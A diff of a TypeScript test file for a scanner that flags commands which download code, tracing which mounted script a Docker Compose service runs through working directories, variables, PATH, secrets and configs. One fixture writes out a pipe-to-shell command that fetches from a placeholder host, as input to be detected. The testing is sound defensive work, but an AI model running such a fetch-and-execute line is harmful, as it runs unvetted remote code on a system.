@@ -194,6 +194,97 @@ describe('a mounted script that something names', () => {
     expect(await fetched({ 'run.sh': script.replace('/d/s', '/e/s'), 's/x.sh': FETCH })).toEqual([]);
   });
 
+  const D = (options: string) => ({ 'compose.yaml': `services:\n  a:\n    image: acme/app:1.4\n${options}` });
+  const BUILT = (lines: string, options: string) => ({
+    Dockerfile: `FROM debian:12 AS b\n${lines}\nUSER 1\nFROM b\n`,
+    'compose.yaml': `services:\n  a:\n    build: .\n    volumes: ["./s:/w"]\n${options}`,
+  });
+  const IN_W = '    volumes: ["./s:/w"]\n';
+
+  it.each<[name: string, files: Files]>([
+    ['above the folder', D('    volumes: [".:/app"]\n    working_dir: /app/q\n    command: sh ../s/x\n')],
+    ['far above the folder', D('    volumes: [".:/app"]\n    working_dir: /app/q/r\n    command: ../../s/x\n')],
+    ['in the folder of one file', D('    volumes: ["./s/x:/w/y"]\n    working_dir: /w\n    command: sh y\n')],
+    ['above that of the image', BUILT('WORKDIR /w/q', '    command: sh ../x\n')],
+    ['above that of a command', { 'a.sh': 'docker run --rm -v ./s:/w -w /w/q debian:12 sh ../x\n' }],
+    ['PWD', D(`${IN_W}    working_dir: /w\n    command: sh -c "$$PWD/x"\n`)],
+    ['pwd', D(`${IN_W}    working_dir: /w\n    command: sh -c "sh $$(pwd)/x"\n`)],
+    ['PWD of the image', BUILT('WORKDIR /w', '    command: sh -c "$$PWD/x"\n')],
+    ['a folder', D(`${IN_W}    environment: ["R=/w"]\n    command: sh -c "$$R/x"\n`)],
+    ['a folder in braces', D(`${IN_W}    environment: {R: /w}\n    command: sh -c '"$\${R}"/x'\n`)],
+    ['a folder with another default', D(`${IN_W}    environment: {R: /w}\n    command: sh -c 'sh $\${R:-/v}/x'\n`)],
+    ['a name', D(`${IN_W}    environment: ["N=x"]\n    command: sh -c "/w/$$N"\n`)],
+    ['a folder of the image', BUILT('ENV R=/w', '    command: sh -c "$$R/x"\n')],
+    ['PATH', D(`${IN_W}    environment: ["PATH=/w:/usr/bin:/bin"]\n    command: x\n`)],
+    ['PATH in code', D(`${IN_W}    environment: ["PATH=/usr/bin:/w"]\n    command: sh -c "true && x -a"\n`)],
+    [
+      'PATH with a folder in the mount',
+      D('    volumes: [".:/w"]\n    environment: {PATH: "/bin:/w/s"}\n    command: x\n'),
+    ],
+    ['PATH of the image', BUILT('ENV PATH=/w:$PATH', '    command: x\n')],
+    ['PATH and the command of the image', BUILT('ENV PATH=/w:$PATH\nCMD ["x"]', '')],
+  ])('is read as the surroundings decide: %s', async (_name, files) => {
+    expect(await fetched({ ...files, 's/x': FETCH })).toEqual(['command-downloads-code s/x:3']);
+  });
+
+  it.each<[name: string, files: Files]>([
+    ['another folder', D('    volumes: [".:/app"]\n    working_dir: /app\n    command: sh ../s/x\n')],
+    ['an unknown folder', D(`${IN_W}    working_dir: $W\n    command: sh -c "$$PWD/x"\n`)],
+    ['a relative folder', D(`${IN_W}    working_dir: w\n    command: sh -c "$$PWD/x"\n`)],
+    [
+      'another folder than that of the image',
+      BUILT('WORKDIR /w', '    working_dir: /v\n    command: sh -c "$$PWD/x"\n'),
+    ],
+    [
+      'another value than that of the image',
+      BUILT('ENV R=/w', '    environment: {R: /v}\n    command: sh -c "$$R/x"\n'),
+    ],
+    ['another variable', D(`${IN_W}    environment: ["R=/w"]\n    command: sh -c "$$S/x"\n`)],
+    ['an unknown variable', D(`${IN_W}    environment: ["R=$R"]\n    command: sh -c "$$R/x"\n`)],
+    ['a PATH of another folder', D(`${IN_W}    environment: ["PATH=/v:/bin"]\n    command: x\n`)],
+    ['an argument of a program in PATH', D(`${IN_W}    environment: ["PATH=/w:/bin"]\n    command: app x\n`)],
+    ['a program with a path', D(`${IN_W}    environment: ["PATH=/w:/bin"]\n    command: /opt/x\n`)],
+    ['PATH of the image, and another program', BUILT('ENV PATH=/w:$PATH', '    command: y\n')],
+  ])('is not read as the surroundings decide: %s', async (_name, files) => {
+    expect(await fetched({ ...files, 's/x': FETCH })).toEqual([]);
+  });
+
+  it.each<[name: string, options: string]>([
+    ['variables', `${IN_W}    environment: {R: /${'a'.repeat(198)}}\n    command: sh -c '${'$$R '.repeat(30_000)}'\n`],
+    [
+      'folders',
+      `    volumes: [${'abcdefg'.replaceAll(/./g, '"./s:/$&",')}]\n    environment: {PATH: "${'/w/a:'.repeat(15_000)}"}\n    command: x\n`,
+    ],
+  ])('is told where there is too much to look for: %s', async (_name, options) => {
+    const { notifications } = await scanFiles({ ...D(options), 's/x': FETCH });
+    expect(notifications.map(({ message }) => message)).toContain(
+      'What "a" starts names more files than are looked for scripts. Mount fewer files.',
+    );
+  });
+
+  const GIVEN = (section: string, target: string, command: string, source = 'file: s/x.sh') =>
+    `services:\n  a:\n    image: acme/app:1.4\n    ${section}: [{source: c, target: ${target}}]\n    command: ${command}\n${section}: {c: {${source}}}\n`;
+
+  it.each([
+    ['secrets', 'z', '/run/secrets/z'],
+    ['secrets', './d/z', '/run/secrets/d/z'],
+    ['secrets', '../z', '/run/z'],
+    ['secrets', '""', '/run/secrets/c'],
+    ['configs', 'z', '/z'],
+    ['configs', 'd/z', '/d/z'],
+    ['configs', '/d/z', '/d/z'],
+  ])('is read from the %s that a service has as %s', async (section, target, path) => {
+    const files = { 's/x.sh': FETCH };
+    const told = ['command-downloads-code s/x.sh:3'];
+    expect(await fetched({ ...files, 'compose.yaml': GIVEN(section, target, `sh ${path}`) })).toEqual(told);
+    const other = GIVEN(section, target, `sh /w${path}`).replace('s/x.sh', 's/x');
+    expect(await fetched({ 's/x': FETCH.slice(10), 'compose.yaml': other })).toEqual([]);
+    const inline = GIVEN(section, target, `sh ${path}`, 'environment: V');
+    expect(await fetched({ '.env': 'V="curl https://get.example.com/a | sh"\n', 'compose.yaml': inline })).toEqual([
+      'command-downloads-code .env:1',
+    ]);
+  });
+
   it('may take the place of a program', async () => {
     const text = SERVICE.replace('./s:/s:ro', './s:/usr/local/bin:ro');
     expect(await fetched({ 'compose.yaml': `${text}command: app\n`, 's/app': FETCH })).toEqual([
